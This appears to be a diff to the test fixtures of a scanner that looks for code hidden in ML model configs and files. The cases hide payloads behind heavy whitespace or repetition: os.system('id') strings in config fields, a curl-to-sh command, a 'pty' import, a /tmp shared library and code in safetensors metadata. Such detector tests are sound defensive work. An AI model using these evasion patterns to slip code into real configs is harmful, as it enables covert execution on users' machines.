@@ -3,6 +3,7 @@
 import json
 from collections.abc import Iterator
 
+from assets.models import safetensors
 from assets.models.archives import zipped
 from assets.models.case import Case, one
 from assets.models.tensorflow import constant, graph, node, saved
@@ -22,6 +23,18 @@ def _documents() -> Iterator[tuple[str, object, str]]:
     yield "spaces-before-a-package", {"pip": [" " * 3000 + "git+https://c.example/x"]}, "requirements-foreign-source"
     yield "command", {"postCreateCommand": " " * 10_001 + _FETCHES}, "shell-script-attacks"
     yield "address", {"command": f"curl http://localhost/x?{'a' * 3000} | sh"}, "shell-script-attacks"
+    attack = "__import__('os').system('id')"
+    yield "expression", {"run": "$" + "(" * 3 + " " * 20_000 + attack + ")" * 3}, "config-evaluated-code"
+    yield "expressions", {"run": ["$1"] * 2000 + [f"${attack}"]}, "config-evaluated-code"
+    yield "class", {"class_name": " " * 20_000 + attack}, "config-evaluated-code"
+    layers = {"backbone": [[-1, 1, "Conv", [64]]] * 10_001 + [[-1, 1, attack, []]], "head": []}
+    yield "layers", layers, "config-evaluated-code"
+    arguments = {"backbone": [[-1, 1, "Conv", [1] * 101 + [attack]]], "head": []}
+    yield "arguments", arguments, "config-evaluated-code"
+    yield "name", {"fn": "torch." + "a." * 120 + "os.system"}, "document-names-callable"
+    modules = {"custom_imports": {"imports": ["mmdet.models"] * 101 + ["pty"]}}
+    yield "modules", modules, "config-imports-module"
+    yield "libraries", {"custom_ops_library": ["x.so"] * 101 + ["/tmp/x.so"]}, "serving-foreign-file"
     yield "words", {"command": ["true;"] * 200 + [_FETCHES]}, "shell-script-attacks"
 
 
@@ -44,6 +57,9 @@ def _files() -> Iterator[tuple[str, bytes, str, str]]:
     named = ("FROM llama3\n" * 21 + 'FROM /tmp/x.gguf\nTEMPLATE """{{ .Prompt }}"""\n').encode()
     yield "directives", named, "directive-loads-elsewhere", "Modelfile"
     yield "packages-of-an-archive", _archive(_COMMENTS + _EVIL), "mar-packages", "x.mar"
+    program = "# " + "x" * 30_000 + "\nimport os\nos.system('id')\n"
+    metadata = safetensors.file({"__metadata__": {"notes": program}})
+    yield "metadata", metadata, "safetensors-metadata-code", "model.safetensors"
     page = b"<html><body>" + b"x" * 9_000_000 + b"<script>x()</script></body></html>"
     yield "page", page, "markup-page-script", "a.html"
 
